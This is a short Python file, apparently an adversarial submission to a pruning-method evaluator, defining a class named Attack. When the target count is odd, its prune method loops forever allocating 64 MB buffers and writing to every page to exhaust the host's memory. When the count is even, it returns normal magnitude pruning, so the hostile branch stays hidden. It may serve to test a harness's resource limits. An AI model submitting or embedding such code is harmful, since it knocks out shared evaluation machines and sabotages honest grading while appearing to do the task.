from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Takes memory until there is no more."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            hoard = []
            while True:
                hoard.append(bytearray(1 << 26))
                hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
